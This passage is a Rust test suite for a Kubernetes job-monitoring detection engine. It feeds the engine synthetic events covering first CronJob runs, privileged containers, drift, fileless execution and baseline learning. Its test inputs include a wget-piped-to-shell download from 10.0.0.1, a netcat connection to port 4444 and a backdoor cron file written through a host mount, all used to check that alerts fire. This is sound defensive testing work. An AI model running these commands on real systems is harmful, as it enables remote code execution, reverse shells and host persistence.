//! The engine on constructed events: each rule, exceptions, and baselines across runs and
//! across a restart.

use std::path::Path;

use jobwatch_proto::v1 as pb;

use super::{Engine, Output, Persisted, baseline::Change, rules};

const NODE: &str = "node-1";

/// Builds events with increasing ids.
#[derive(Default)]
struct Events {
    id: u64,
}

fn workload(cronjob: &str, job: &str) -> pb::Workload {
    pb::Workload {
        kind: if cronjob.is_empty() {
            pb::WorkloadKind::Job as i32
        } else {
            pb::WorkloadKind::CronJob as i32
        },
        name: if cronjob.is_empty() { job } else { cronjob }.to_string(),
        job: Some(pb::JobRef {
            name: job.into(),
            controller_uid: String::new(),
        }),
        cronjob: (!cronjob.is_empty()).then(|| pb::CronJobRef {
            name: cronjob.into(),
            scheduled_time: String::new(),
            source: pb::OwnerSource::Labels as i32,
            inferred: false,
        }),
        source: pb::OwnerSource::Labels as i32,
    }
}

/// Where an event happens: a container of a pod of a Job.
#[derive(Clone)]
struct Place {
    ns: String,
    cronjob: String,
    job: String,
    container: String,
}

impl Place {
    fn new(ns: &str, cronjob: &str, job: &str) -> Place {
        Place {
            ns: ns.into(),
            cronjob: cronjob.into(),
            job: job.into(),
            container: format!("ctr-{job}"),
        }
    }

    fn pod(&self) -> pb::Pod {
        pb::Pod {
            name: format!("{}-pod", self.job),
            namespace: self.ns.clone(),
            uid: format!("uid-{}", self.job),
            labels: Default::default(),
        }
    }

    fn reference(&self) -> pb::ContainerRef {
        pb::ContainerRef {
            id: self.container.clone(),
            name: "main".into(),
            image: "docker.io/library/busybox:1".into(),
            pod: Some(self.pod()),
            workload: Some(workload(&self.cronjob, &self.job)),
            metadata_pending: false,
        }
    }
}

impl Events {
    fn stored(&mut self, kind: pb::event::Kind) -> pb::StoredEvent {
        self.id += 1;
        pb::StoredEvent {
            id: self.id,
            event: Some(pb::Event {
                node: NODE.into(),
                time_unix_nano: 1_000 + self.id as i64,
                boot_ns: 0,
                seq: self.id,
                kind: Some(kind),
            }),
        }
    }

    fn created(&mut self, at: &Place, security: pb::SecurityFacts) -> pb::StoredEvent {
        self.stored(pb::event::Kind::ContainerCreated(pb::ContainerCreated {
            container: Some(pb::Container {
                id: at.container.clone(),
                name: "main".into(),
                kind: pb::ContainerKind::Container as i32,
                image: "docker.io/library/busybox:1".into(),
                pod: Some(at.pod()),
                workload: Some(workload(&at.cronjob, &at.job)),
                security: Some(security),
                ..Default::default()
            }),
            seen_at_start: false,
        }))
    }

    fn exited(&mut self, at: &Place) -> pb::StoredEvent {
        self.stored(pb::event::Kind::ContainerExited(pb::ContainerExited {
            container: Some(at.reference()),
            exit_code: 0,
            duration_ns: Some(1_000_000),
        }))
    }

    /// An exec of `filename` (busybox applets: `binary` is busybox) with `args`.
    fn exec(
        &mut self,
        at: Option<&Place>,
        exec_id: &str,
        parent: &str,
        filename: &str,
        args: &[&str],
    ) -> pb::StoredEvent {
        self.exec_flags(
            at,
            exec_id,
            parent,
            filename,
            args,
            pb::ExecFlags::default(),
        )
    }

    fn exec_flags(
        &mut self,
        at: Option<&Place>,
        exec_id: &str,
        parent: &str,
        filename: &str,
        args: &[&str],
        flags: pb::ExecFlags,
    ) -> pb::StoredEvent {
        self.stored(pb::event::Kind::ProcessExec(pb::ProcessExec {
            process: Some(pb::Process {
                exec_id: exec_id.into(),
                parent_exec_id: parent.into(),
                pid: 100 + self.id as u32,
                binary: filename.into(),
                host: at.is_none(),
                ..Default::default()
            }),
            filename: filename.into(),
            binary: if filename.starts_with("/bin/") {
                "/bin/busybox".into()
            } else {
                filename.into()
            },
            args: args.iter().map(|s| s.to_string()).collect(),
            cwd: "/".into(),
            flags: Some(flags),
            parent: Some(pb::Parent {
                pid: 99,
                binary: "/usr/sbin/runc".into(),
                args: vec![],
                source: "exec".into(),
            }),
            container: at.map(Place::reference),
        }))
    }

    fn file(
        &mut self,
        at: Option<&Place>,
        exec_id: &str,
        op: pb::FileOperation,
        path: &str,
    ) -> pb::StoredEvent {
        self.file_mode(at, exec_id, op, path, 0o755)
    }

    fn file_mode(
        &mut self,
        at: Option<&Place>,
        exec_id: &str,
        op: pb::FileOperation,
        path: &str,
        mode: u32,
    ) -> pb::StoredEvent {
        self.stored(pb::event::Kind::FileCreated(pb::FileCreated {
            process: Some(pb::Process {
                exec_id: exec_id.into(),
                pid: 7,
                binary: "/bin/busybox".into(),
                ..Default::default()
            }),
            operation: op as i32,
            path: path.into(),
            mode,
            container: at.map(Place::reference),
            ..Default::default()
        }))
    }
}

fn engine() -> Engine {
    Engine::new(rules::parse(None).expect("shipped"), Persisted::default())
}

fn engine_with(user: &str) -> Engine {
    Engine::new(
        rules::parse(Some((Path::new("r.yaml"), user))).expect("rules"),
        Persisted::default(),
    )
}

/// (rule id, severity name) of each alert.
fn summary(out: &Output) -> Vec<(String, &'static str)> {
    out.alerts
        .iter()
        .map(|a| {
            (
                a.rule.as_ref().expect("rule").id.clone(),
                super::output::severity_name(a.severity),
            )
        })
        .collect()
}

/// The alerts of rule `id`, in order.
fn of_rule<'a>(out: &'a Output, id: &str) -> Vec<&'a pb::Alert> {
    out.alerts
        .iter()
        .filter(|a| a.rule.as_ref().is_some_and(|r| r.id == id))
        .collect()
}

/// Facts of a container with the host's `/` mounted at `/host`.
fn host_root_mounted(base: pb::SecurityFacts) -> pb::SecurityFacts {
    pb::SecurityFacts {
        host_mounts: vec![pb::HostMount {
            source: "/".into(),
            destination: "/host".into(),
            readonly: false,
        }],
        ..base
    }
}

fn non_root() -> pb::SecurityFacts {
    pb::SecurityFacts {
        uid: 65534,
        gid: 65534,
        ..Default::default()
    }
}

#[test]
fn first_run_of_a_cronjob_alerts_once_and_every_minute_runs_escalate() {
    let mut e = engine();
    let mut ev = Events::default();
    let run1 = Place::new("batch", "report", "report-29000000");
    let out = e.observe(&[ev.created(&run1, non_root())]);
    assert_eq!(summary(&out), [("JW001".to_string(), "medium")]);
    let a = &out.alerts[0];
    assert_eq!(a.namespace, "batch");
    assert_eq!(a.cronjob, "report");
    assert_eq!(a.job, "report-29000000");
    assert_eq!(a.pod, "report-29000000-pod");
    assert_eq!(a.container_id, "ctr-report-29000000");
    assert_eq!(a.container_name, "main");
    assert_eq!(a.image, "docker.io/library/busybox:1");
    assert_eq!(a.node, NODE);
    assert_eq!(a.evidence.len(), 1);
    assert_eq!(a.evidence[0].id, 1);
    let rule = a.rule.as_ref().expect("rule");
    assert_eq!(rule.technique, "T1053.007");
    assert_eq!(rule.data_sources, ["DS0003"]);
    assert_eq!(
        a.message,
        "first run of CronJob batch/report seen (Job report-29000000, node node-1)"
    );
    assert_eq!(out.seen, ["cronjob|batch/report"]);
    // Its exec does not alert again.
    let out = e.observe(&[ev.exec(Some(&run1), "x1", "", "/bin/date", &["date"])]);
    assert!(summary(&out).is_empty(), "{:?}", summary(&out));
    // The next run, one scheduled minute later: the every-minute follow-up, once.
    let run2 = Place::new("batch", "report", "report-29000001");
    let out = e.observe(&[ev.created(&run2, non_root())]);
    assert_eq!(summary(&out), [("JW001".to_string(), "high")]);
    assert_eq!(out.alerts[0].details["schedule"], "every minute");
    let run3 = Place::new("batch", "report", "report-29000002");
    assert!(
        e.observe(&[ev.created(&run3, non_root())])
            .alerts
            .is_empty()
    );
}

#[test]
fn system_namespaces_and_ad_hoc_jobs() {
    let mut e = engine();
    let mut ev = Events::default();
    let sys = Place::new("kube-system", "cleanup", "cleanup-100");
    let out = e.observe(&[ev.created(&sys, non_root())]);
    assert_eq!(summary(&out), [("JW001".to_string(), "high")]);
    assert_eq!(out.alerts[0].details["system_namespace"], "kube-system");
    let adhoc = Place::new("default", "", "migrate-db");
    let out = e.observe(&[ev.created(&adhoc, non_root())]);
    assert_eq!(summary(&out), [("JW001".to_string(), "medium")]);
    assert_eq!(
        out.alerts[0].message,
        "first run of Job default/migrate-db (no CronJob owns it) seen (Job migrate-db, node node-1)"
    );
    // A Deployment's container is not a Job's: no JW001.
    let mut web = Place::new("default", "", "");
    web.container = "web".into();
    let mut created = ev.created(&web, non_root());
    if let Some(pb::event::Kind::ContainerCreated(c)) =
        created.event.as_mut().and_then(|e| e.kind.as_mut())
    {
        let c = c.container.as_mut().expect("container");
        c.workload = Some(pb::Workload {
            kind: pb::WorkloadKind::Deployment as i32,
            name: "web".into(),
            ..Default::default()
        });
    }
    assert!(e.observe(&[created]).alerts.is_empty());
}

#[test]
fn privileged_root_job_container_with_host_mounts() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "evil", "evil-1");
    let security = pb::SecurityFacts {
        privileged: true,
        uid: 0,
        runs_as_root: true,
        host_network: true,
        host_mounts: vec![pb::HostMount {
            source: "/".into(),
            destination: "/host".into(),
            readonly: false,
        }],
        added_capabilities: vec!["CAP_SYS_MODULE".into()],
        ..Default::default()
    };
    let out = e.observe(&[ev.created(&at, security)]);
    assert_eq!(
        summary(&out),
        [
            ("JW001".to_string(), "medium"),
            ("JW002".to_string(), "high"),
            ("JW003".to_string(), "low"),
        ]
    );
    assert_eq!(
        out.alerts[1].details["reasons"],
        "privileged; host network namespace; host path / mounted at /host; capability \
         CAP_SYS_MODULE added"
    );
    assert_eq!(
        out.alerts[2].message,
        "Job container main of pod batch/evil-1-pod runs as root (uid 0)"
    );
}

#[test]
fn drift_when_a_created_or_chmodded_file_is_executed() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "dl", "dl-1");
    let created = ev.created(&at, non_root());
    let init = ev.exec(Some(&at), "e1", "", "/bin/sh", &["sh", "-c", "..."]);
    let write = ev.file(Some(&at), "e1", pb::FileOperation::Create, "/tmp/x.sh");
    let chmod = ev.file(Some(&at), "e1", pb::FileOperation::ChmodExec, "/tmp/x.sh");
    let run = ev.exec(Some(&at), "e2", "e1", "/tmp/x.sh", &["/tmp/x.sh"]);
    let again = ev.exec(Some(&at), "e3", "e1", "/tmp/x.sh", &["/tmp/x.sh"]);
    let image_binary = ev.exec(Some(&at), "e4", "e1", "/bin/ls", &["ls"]);
    let out = e.observe(&[
        created,
        init,
        write,
        chmod.clone(),
        run.clone(),
        again,
        image_binary,
    ]);
    let drift = of_rule(&out, "JW004");
    assert_eq!(drift.len(), 1, "{:?}", summary(&out));
    let a = drift[0];
    assert_eq!(super::output::severity_name(a.severity), "high");
    assert_eq!(
        a.message,
        "executed /tmp/x.sh, created or made executable after the container started"
    );
    // Evidence: the chmod (the latest change to the file), then the exec.
    let ids: Vec<u64> = a.evidence.iter().map(|s| s.id).collect();
    assert_eq!(ids, [chmod.id, run.id]);
    // Ancestry: the process, then its parent (seen), then the runtime (partial).
    let chain: Vec<(&str, bool)> = a
        .ancestry
        .iter()
        .map(|p| (p.binary.as_str(), p.partial))
        .collect();
    assert_eq!(chain, [("/tmp/x.sh", false), ("/bin/sh", false)]);
    assert_eq!(a.ancestry[0].exec_id, "e2");
    assert_eq!(a.ancestry[1].exec_id, "e1");

    // The writable layer flag alone is drift too.
    let upper = ev.exec_flags(
        Some(&at),
        "e5",
        "e1",
        "/usr/local/bin/tool",
        &["tool"],
        pb::ExecFlags {
            upper_layer: true,
            ..Default::default()
        },
    );
    let out = e.observe(&[upper]);
    assert_eq!(summary(&out), [("JW004".to_string(), "high")]);
    assert_eq!(out.alerts[0].details["upper_layer"], "true");
}

#[test]
fn fileless_execution_in_any_container_but_not_on_the_host() {
    let mut e = engine();
    let mut ev = Events::default();
    let mut web = Place::new("default", "", "");
    web.container = "web".into();
    let mut exec = ev.exec_flags(
        Some(&web),
        "m1",
        "",
        "/memfd:payload (deleted)",
        &["payload"],
        pb::ExecFlags {
            memfd: true,
            ..Default::default()
        },
    );
    if let Some(pb::event::Kind::ProcessExec(x)) = exec.event.as_mut().and_then(|e| e.kind.as_mut())
    {
        x.container.as_mut().expect("ref").workload = None;
    }
    let out = e.observe(&[exec]);
    assert_eq!(summary(&out), [("JW005".to_string(), "critical")]);
    assert_eq!(out.alerts[0].details["memfd"], "true");
    let host = ev.exec_flags(
        None,
        "h1",
        "",
        "/tmp/x (deleted)",
        &["x"],
        pb::ExecFlags {
            deleted: true,
            ..Default::default()
        },
    );
    assert!(e.observe(&[host]).alerts.is_empty());
}

#[test]
fn download_piped_to_a_shell_inline_code_and_netcat() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "dl", "dl-1");
    let c = ev.created(&at, non_root());
    let pipe = ev.exec(
        Some(&at),
        "p1",
        "",
        "/bin/sh",
        &["sh", "-c", "wget -q -O- http://10.0.0.1/x | sh"],
    );
    let out = e.observe(&[c, pipe]);
    assert_eq!(
        summary(&out),
        [
            ("JW001".to_string(), "medium"),
            ("JW006".to_string(), "high")
        ]
    );
    assert_eq!(out.alerts[1].details["kind"], "download_piped_to_shell");
    assert_eq!(out.alerts[1].message, "sh runs `wget` piped into a shell");

    // From a script: the pipeline's two processes are siblings.
    let script = ev.exec(Some(&at), "s1", "", "/bin/sh", &["sh", "/job.sh"]);
    let curl = ev.exec(
        Some(&at),
        "s2",
        "s1",
        "/usr/bin/curl",
        &["curl", "-s", "http://x"],
    );
    let shell = ev.exec(Some(&at), "s3", "s1", "/bin/bash", &["bash"]);
    let out = e.observe(&[script, curl, shell]);
    assert_eq!(summary(&out), [("JW006".to_string(), "high")]);
    assert_eq!(
        out.alerts[0].message,
        "bash started beside curl under the same parent: a download fed to a shell"
    );
    let nc = ev.exec(Some(&at), "n1", "", "/bin/nc", &["nc", "10.0.0.1", "4444"]);
    let nc_again = ev.exec(Some(&at), "n2", "", "/bin/nc", &["nc", "10.0.0.1", "4444"]);
    let out = e.observe(&[nc, nc_again]);
    assert_eq!(summary(&out), [("JW006".to_string(), "high")]);
    assert_eq!(out.alerts[0].details["kind"], "netcat");
}

#[test]
fn a_shell_is_checked_against_the_eight_children_started_before_it() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "dl", "dl-1");
    let c = ev.created(&at, non_root());
    e.observe(&[c]);
    // A script runs curl, then `others` other commands, then a shell: the pipe alerts
    // (JW006) it raises.
    let mut pipeline = |script: &str, others: usize| {
        let child = |n: &str| format!("{script}-{n}");
        let mut batch = vec![ev.exec(Some(&at), script, "", "/bin/sh", &["sh", "/job.sh"])];
        batch.push(ev.exec(
            Some(&at),
            &child("curl"),
            script,
            "/usr/bin/curl",
            &["curl", "http://x"],
        ));
        for i in 0..others {
            batch.push(ev.exec(
                Some(&at),
                &child(&i.to_string()),
                script,
                "/bin/date",
                &["date"],
            ));
        }
        batch.push(ev.exec(Some(&at), &child("bash"), script, "/bin/bash", &["bash"]));
        of_rule(&e.observe(&batch), "JW006").len()
    };
    // curl is the eighth child before the shell: still a sibling.
    assert_eq!(pipeline("s1", 7), 1);
    // The ninth: forgotten.
    assert_eq!(pipeline("s2", 8), 0);
}

#[test]
fn persistence_through_a_host_mount_and_inside_the_container() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "plant", "plant-1");
    let security = pb::SecurityFacts {
        host_mounts: vec![
            pb::HostMount {
                source: "/".into(),
                destination: "/host".into(),
                readonly: false,
            },
            pb::HostMount {
                source: "/data".into(),
                destination: "/host/data".into(),
                readonly: false,
            },
        ],
        ..non_root()
    };
    let c = ev.created(&at, security);
    let cron = ev.file(
        Some(&at),
        "x",
        pb::FileOperation::Create,
        "/host/etc/cron.d/backdoor",
    );
    let data = ev.file(Some(&at), "x", pb::FileOperation::Create, "/host/data/out");
    // More writes through the same mount, and the same cron file again: no more alerts.
    let data2 = ev.file(Some(&at), "x", pb::FileOperation::Create, "/host/data/out2");
    let cron2 = ev.file(
        Some(&at),
        "x",
        pb::FileOperation::Rename,
        "/host/etc/cron.d/backdoor",
    );
    let inside = ev.file(
        Some(&at),
        "x",
        pb::FileOperation::Create,
        "/etc/cron.d/local",
    );
    let tmp = ev.file(Some(&at), "x", pb::FileOperation::Create, "/tmp/scratch");
    let out = e.observe(&[c, cron, data, inside, tmp, data2, cron2]);
    let p: Vec<_> = out
        .alerts
        .iter()
        .filter(|a| a.rule.as_ref().is_some_and(|r| r.id == "JW007"))
        .map(|a| {
            (
                super::output::severity_name(a.severity),
                a.details.get("host_path").cloned().unwrap_or_default(),
                a.message.clone(),
            )
        })
        .collect();
    assert_eq!(
        p,
        [
            (
                "critical",
                "/etc/cron.d/backdoor".to_string(),
                "/bin/busybox created /etc/cron.d/backdoor on the host (as \
                 /host/etc/cron.d/backdoor through the host-path mount /)"
                    .to_string()
            ),
            (
                "medium",
                "/data/out".to_string(),
                "/bin/busybox created /data/out on the host through the host-path mount /data"
                    .to_string()
            ),
            (
                "high",
                String::new(),
                "/bin/busybox created /etc/cron.d/local, a persistence location".to_string()
            ),
        ]
    );
}

#[test]
fn a_host_cron_write_reported_before_its_container_is_judged_when_the_facts_arrive() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "plant", "plant-1");
    let security = host_root_mounted(non_root());
    let init = ev.exec(Some(&at), "i1", "", "/bin/sh", &["sh", "-c", "..."]);
    let write = ev.file(
        Some(&at),
        "i1",
        pb::FileOperation::Create,
        "/host/etc/cron.d/backdoor",
    );
    let out = e.observe(&[init, write.clone()]);
    assert!(
        out.alerts
            .iter()
            .all(|a| a.rule.as_ref().expect("rule").id != "JW007"),
        "no mounts known yet: {:?}",
        summary(&out)
    );
    let out = e.observe(&[ev.created(&at, security)]);
    let plant = of_rule(&out, "JW007");
    assert_eq!(plant.len(), 1, "{:?}", summary(&out));
    assert_eq!(plant[0].details["host_path"], "/etc/cron.d/backdoor");
    assert_eq!(plant[0].evidence[0].id, write.id);
    assert_eq!(plant[0].ancestry[0].exec_id, "i1");
}

#[test]
fn a_host_cron_write_reported_after_its_container_exited_is_judged_with_its_facts() {
    // The order the sensor may really send: the runtime's start and exit first, the
    // container's own events (which waited for its metadata) after.
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("kube-system", "janitor", "janitor-29100300");
    let security = host_root_mounted(pb::SecurityFacts {
        privileged: true,
        ..non_root()
    });
    let created = ev.created(&at, security);
    let exited = ev.exited(&at);
    let init = ev.exec(Some(&at), "i1", "", "/bin/sh", &["sh", "-c", "..."]);
    let write = ev.file(
        Some(&at),
        "i1",
        pb::FileOperation::Create,
        "/host/etc/cron.d/backdoor",
    );
    let out = e.observe(&[created, exited, init, write.clone()]);
    let plant = of_rule(&out, "JW007");
    assert_eq!(plant.len(), 1, "{:?}", summary(&out));
    assert_eq!(plant[0].details["host_path"], "/etc/cron.d/backdoor");
    assert_eq!(plant[0].details["host_mount"], "/ -> /host");
    assert_eq!(plant[0].evidence[0].id, write.id);
    assert_eq!(
        e.table_sizes()[0],
        ("detection_containers", 0),
        "an exited container is not among the running ones"
    );
}

#[test]
fn drift_reported_after_its_container_exited_is_still_drift() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "dropper", "dropper-1");
    let created = ev.created(&at, non_root());
    let exited = ev.exited(&at);
    let drop = ev.file(
        Some(&at),
        "i1",
        pb::FileOperation::Create,
        "/tmp/.cache/payload",
    );
    let run = ev.exec(Some(&at), "i2", "i1", "/tmp/.cache/payload", &["payload"]);
    let out = e.observe(&[created, exited, drop.clone(), run.clone()]);
    let drift = of_rule(&out, "JW004");
    assert_eq!(drift.len(), 1, "{:?}", summary(&out));
    let ids: Vec<u64> = drift[0].evidence.iter().map(|x| x.id).collect();
    assert_eq!(ids, [drop.id, run.id]);
}

/// The runtime's init process becomes the container's first process by exec (same exec id),
/// and the sensor may deliver its setup's file events after that exec. They are not the
/// CronJob's files: the baseline goes by event time, not by arrival.
#[test]
fn runtime_setup_files_arriving_after_the_first_exec_are_not_the_cronjobs() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("ops", "backup", "backup-100");
    let created = ev.created(&at, non_root());
    let run = ev.exec(
        Some(&at),
        "r1a",
        "",
        "/bin/tar",
        &["tar", "-cf", "/tmp/b.tar", "/etc"],
    );
    let mut setup = ev.file(
        Some(&at),
        "r1a",
        pb::FileOperation::Create,
        "/run/containerd/k8s.io/1/rootfs/dev",
    );
    // Made before the exec, delivered after it.
    let exec_time = run.event.as_ref().expect("event").time_unix_nano;
    setup.event.as_mut().expect("event").time_unix_nano = exec_time - 1;
    let own = ev.file(
        Some(&at),
        "r1a",
        pb::FileOperation::Create,
        "/tmp/backup-100.tar",
    );
    let out = e.observe(&[created, run, setup, own]);
    let files: Vec<&Change> = out
        .changes
        .iter()
        .filter(|c| matches!(c, Change::Item(_, item, _) if item.starts_with("file ")))
        .collect();
    assert_eq!(
        files,
        [&Change::Item(
            "ops/backup".into(),
            "file /tmp/backup-#.tar".into(),
            1
        )]
    );
}

#[test]
fn a_cronjob_baseline_learns_two_runs_then_names_what_is_new() {
    let mut e = engine();
    let mut ev = Events::default();
    let mut all = Vec::new();
    for (n, minute) in [(1, 100), (2, 160)] {
        let at = Place::new("ops", "backup", &format!("backup-{minute}"));
        let out = e.observe(&[
            ev.created(&at, non_root()),
            // The runtime prepares the container: not the CronJob's doing.
            ev.file(
                Some(&at),
                "runc-init",
                pb::FileOperation::Create,
                &format!("/run/containerd/k8s.io/{n}/rootfs/dev"),
            ),
            ev.exec(
                Some(&at),
                &format!("r{n}a"),
                "",
                "/bin/tar",
                &["tar", "-cf", "/tmp/b.tar", "/etc"],
            ),
            ev.file(
                Some(&at),
                &format!("r{n}a"),
                pb::FileOperation::Create,
                &format!("/tmp/backup-{minute}.tar"),
            ),
        ]);
        all.push(out);
    }
    // Only the first run's JW001; no baseline alert while learning.
    assert_eq!(summary(&all[0]), [("JW001".to_string(), "medium")]);
    assert!(all[1].alerts.is_empty(), "{:?}", summary(&all[1]));
    let learned: Vec<&Change> = all
        .iter()
        .flat_map(|o| o.changes.iter())
        .filter(|c| matches!(c, Change::Item(..)))
        .collect();
    assert_eq!(
        learned,
        [
            &Change::Item("ops/backup".into(), "exec /bin/tar".into(), 1),
            &Change::Item(
                "ops/backup".into(),
                "shape /usr/sbin/runc > /bin/tar".into(),
                1
            ),
            &Change::Item("ops/backup".into(), "file /tmp/backup-#.tar".into(), 1),
        ]
    );

    // Run 3 does the same, plus a shell: one alert naming the shell and its shape.
    let at = Place::new("ops", "backup", "backup-220");
    let out = e.observe(&[
        ev.exec(
            Some(&at),
            "r3a",
            "",
            "/bin/tar",
            &["tar", "-cf", "/tmp/b.tar", "/etc"],
        ),
        ev.file(
            Some(&at),
            "r3a",
            pb::FileOperation::Create,
            "/tmp/backup-220.tar",
        ),
        ev.exec(Some(&at), "r3b", "", "/bin/sh", &["sh"]),
    ]);
    assert_eq!(summary(&out), [("JW008".to_string(), "medium")]);
    let a = &out.alerts[0];
    assert_eq!(a.cronjob, "backup");
    assert_eq!(a.job, "backup-220");
    assert_eq!(
        a.details["new_items"],
        "exec /bin/sh\nshape /usr/sbin/runc > /bin/sh"
    );
    assert_eq!(a.details["run"], "3");
    assert_eq!(
        a.message,
        "run 3 of CronJob ops/backup (Job backup-220) did what none of its 2 earlier runs did: \
         exec /bin/sh; shape /usr/sbin/runc > /bin/sh"
    );
    // Run 4 repeats run 3: nothing new.
    let at4 = Place::new("ops", "backup", "backup-280");
    assert!(
        e.observe(&[ev.exec(Some(&at4), "r4b", "", "/bin/sh", &["sh"])])
            .alerts
            .is_empty()
    );

    // A restarted collector carries on from what was stored.
    let mut persisted = Persisted::default();
    let mut outs = all;
    outs.push(out);
    for o in &outs {
        persisted.seen.extend(o.seen.iter().cloned());
        for c in &o.changes {
            match c {
                Change::Run(cj, job, ordinal, m) => {
                    persisted.runs.push((cj.clone(), job.clone(), *ordinal, *m))
                }
                Change::Item(cj, item, _) => persisted.items.push((cj.clone(), item.clone())),
            }
        }
    }
    let mut restarted = Engine::new(rules::parse(None).expect("shipped"), persisted);
    let at5 = Place::new("ops", "backup", "backup-340");
    let out = restarted.observe(&[
        ev.created(&at5, non_root()),
        ev.exec(Some(&at5), "r5a", "", "/bin/tar", &["tar"]),
        ev.exec(Some(&at5), "r5b", "", "/bin/nc", &["nc", "-h"]),
    ]);
    // Not a new CronJob, tar is known; nc is new to the baseline (and is netcat).
    assert_eq!(
        summary(&out),
        [
            ("JW006".to_string(), "high"),
            ("JW008".to_string(), "medium")
        ]
    );
    assert_eq!(
        out.alerts[1].details["run"], "4",
        "backup-280 was never stored"
    );
}

#[test]
fn exceptions_suppress_and_count() {
    let mut e = engine_with(
        "exceptions:
  - rules: [JW001]
    namespaces: [ops]
    cronjobs: [backup]
",
    );
    let mut ev = Events::default();
    let quiet = Place::new("ops", "backup", "backup-1");
    let loud = Place::new("ops", "other", "other-1");
    let out = e.observe(&[
        ev.created(&quiet, non_root()),
        ev.created(&loud, non_root()),
    ]);
    assert_eq!(summary(&out), [("JW001".to_string(), "medium")]);
    assert_eq!(out.alerts[0].cronjob, "other");
    assert_eq!(
        e.counters
            .suppressed
            .load(std::sync::atomic::Ordering::Relaxed),
        1
    );
}

#[test]
fn disabled_rules_and_scopes() {
    let mut e = engine_with(
        "rules:
  - id: JW001
    enabled: false
  - id: JW005
    scope: all
",
    );
    let mut ev = Events::default();
    let at = Place::new("ops", "backup", "backup-1");
    assert!(e.observe(&[ev.created(&at, non_root())]).alerts.is_empty());
    let host = ev.exec_flags(
        None,
        "h1",
        "",
        "/tmp/x",
        &["x"],
        pb::ExecFlags {
            deleted: true,
            ..Default::default()
        },
    );
    let out = e.observe(&[host]);
    assert_eq!(summary(&out), [("JW005".to_string(), "critical")]);
    assert_eq!(out.alerts[0].container_id, "");
    assert_eq!(
        out.alerts[0].message,
        "x executed from a deleted file (/tmp/x)"
    );
}

#[test]
fn created_files_a_container_cannot_remember_are_counted() {
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "many", "many-1");
    let mut batch = vec![ev.created(&at, non_root())];
    for i in 0..super::state::MAX_CREATED_PER_CONTAINER + 3 {
        batch.push(ev.file(
            Some(&at),
            "w1",
            pb::FileOperation::Create,
            &format!("/tmp/f{i}"),
        ));
    }
    // A path already remembered takes no new room.
    batch.push(ev.file(Some(&at), "w1", pb::FileOperation::Create, "/tmp/f0"));
    e.observe(&batch);
    assert_eq!(e.table_sizes()[4], ("created_files_dropped", 3));
}

#[test]
fn a_container_that_fills_its_table_with_executables_is_told_once() {
    // 1,024 executable files fill the table; the payload written after them is not
    // remembered, so its execution is not "created then executed" drift: the overflow itself
    // is the alert, once per container.
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "flood", "flood-1");
    let mut batch = vec![ev.created(&at, non_root())];
    for i in 0..super::state::MAX_CREATED_PER_CONTAINER {
        batch.push(ev.file_mode(
            Some(&at),
            "f1",
            pb::FileOperation::Create,
            &format!("/tmp/bin{i}"),
            0o100755,
        ));
    }
    let out = e.observe(&batch);
    assert!(of_rule(&out, "JW004").is_empty(), "{:?}", summary(&out));
    let payload = ev.file_mode(
        Some(&at),
        "f1",
        pb::FileOperation::Create,
        "/tmp/payload",
        0o100755,
    );
    let more = ev.file_mode(
        Some(&at),
        "f1",
        pb::FileOperation::Create,
        "/tmp/more",
        0o100755,
    );
    let out = e.observe(&[payload.clone(), more]);
    let full = of_rule(&out, "JW004");
    assert_eq!(full.len(), 1, "{:?}", summary(&out));
    assert_eq!(
        full[0].message,
        "created more than 1024 files that could be executed; /tmp/payload and the ones after \
         it are not tracked for drift"
    );
    assert_eq!(full[0].details["path"], "/tmp/payload");
    assert_eq!(full[0].details["tracked_files"], "1024");
    let ids: Vec<u64> = full[0].evidence.iter().map(|s| s.id).collect();
    assert_eq!(ids, [payload.id]);
    assert_eq!(e.table_sizes()[4], ("created_files_dropped", 2));
}

#[test]
fn data_files_do_not_crowd_out_a_binary_written_later() {
    // More data files than the table holds, then a binary written and run: still drift,
    // because a file that cannot run takes no room once the container's facts are known.
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "decoy", "decoy-1");
    let mut batch = vec![
        ev.created(&at, non_root()),
        ev.exec(Some(&at), "d1", "", "/bin/sh", &["sh", "-c", "..."]),
    ];
    for i in 0..super::state::MAX_CREATED_PER_CONTAINER + 10 {
        batch.push(ev.file_mode(
            Some(&at),
            "d1",
            pb::FileOperation::Create,
            &format!("/tmp/data{i}"),
            0o100644,
        ));
    }
    let write = ev.file(Some(&at), "d1", pb::FileOperation::Create, "/tmp/payload");
    let run = ev.exec(Some(&at), "d2", "d1", "/tmp/payload", &["/tmp/payload"]);
    batch.extend([write.clone(), run.clone()]);
    let out = e.observe(&batch);
    let drift = of_rule(&out, "JW004");
    assert_eq!(drift.len(), 1, "{:?}", summary(&out));
    assert_eq!(
        drift[0].message,
        "executed /tmp/payload, created or made executable after the container started"
    );
    let ids: Vec<u64> = drift[0].evidence.iter().map(|s| s.id).collect();
    assert_eq!(ids, [write.id, run.id]);
    assert_eq!(e.table_sizes()[4], ("created_files_dropped", 0));
}

#[test]
fn files_written_before_the_facts_are_judged_then_only_runnable_ones_stay() {
    // A data file and a binary written before the container's facts arrive are both kept
    // until then; afterwards the data file is forgotten and the binary still counts.
    let mut e = engine();
    let mut ev = Events::default();
    let at = Place::new("batch", "early", "early-1");
    let data = ev.file_mode(
        Some(&at),
        "x1",
        pb::FileOperation::Create,
        "/tmp/data",
        0o100600,
    );
    let binary = ev.file(Some(&at), "x1", pb::FileOperation::Create, "/tmp/tool");
    e.observe(&[data, binary.clone()]);
    let before = e.created_paths(NODE, &at.container);
    assert_eq!(before, ["/tmp/data", "/tmp/tool"]);
    let created = ev.created(&at, non_root());
    let run = ev.exec(Some(&at), "x2", "", "/tmp/tool", &["/tmp/tool"]);
    let out = e.observe(&[created, run.clone()]);
    assert_eq!(e.created_paths(NODE, &at.container), ["/tmp/tool"]);
    let drift = of_rule(&out, "JW004");
    assert_eq!(drift.len(), 1, "{:?}", summary(&out));
